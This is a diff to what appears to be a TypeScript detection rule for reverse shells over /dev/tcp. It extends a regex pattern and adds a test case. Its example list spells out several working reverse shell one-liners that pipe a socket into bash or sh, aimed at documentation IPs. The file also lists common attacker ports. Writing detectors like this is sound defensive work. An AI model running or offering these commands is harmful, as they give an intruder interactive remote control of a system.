@@ -10,7 +10,7 @@ import { shells } from "./programs.ts";
 
 /** A shell that reads from the network and answers to it; a mere `> /dev/tcp/db/5432` or a request over `exec 3<>` is none. */
 const bothWays =
-  /(?:>&|&>)\s?\/dev\/(?:tcp|udp)\/|0[<>]&1|(?:^|[\s/])(?:ba|z|da|a|k|)sh -[a-z]{0,3}i|sh(?: -\w{1,4})? ?<&\d|\$\{?\w{1,20}\}? 2?>&\d|read (?:-r )?\w{1,20}[^|]{0,60}(?:eval|sh -c)/;
+  /(?:>&|&>)\s?\/dev\/(?:tcp|udp)\/|0[<>]&1|(?:^|[\s/])(?:ba|z|da|a|k|)sh -[a-z]{0,3}i|sh(?: -\w{1,4})? ?<&\d|\$\{?\w{1,20}\}? 2?>&\d|<&\d{1,3} {0,3}\| {0,3}(?:\/(?:usr\/)?bin\/)?(?:ba|da|z|a|k|)sh(?:[\s;&]|$)|read (?:-r )?\w{1,20}[^|]{0,60}(?:eval|sh -c)/;
 
 const presetPorts = new Set([1234, 1337, 4444, 4445, 5555, 6666, 9001, 31337]);
 
@@ -33,6 +33,7 @@ export const reverseShellDevTcp: Indicator = {
   examples: {
     found: [
       ran("bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", inContainer),
+      ran("bash -c exec 5<>/dev/tcp/203.0.113.7/4;cat <&5|sh"),
       ran("bash -c exec 5<>/dev/tcp/198.51.100.3/443; cat <&5 | while read l; do $l 2>&5 >&5; done"),
       ran("sh -i", { "proc.pcmdline": "bash -c 0<&196;exec 196<>/dev/tcp/203.0.113.7/9001; sh <&196 >&196 2>&196" }),
     ],
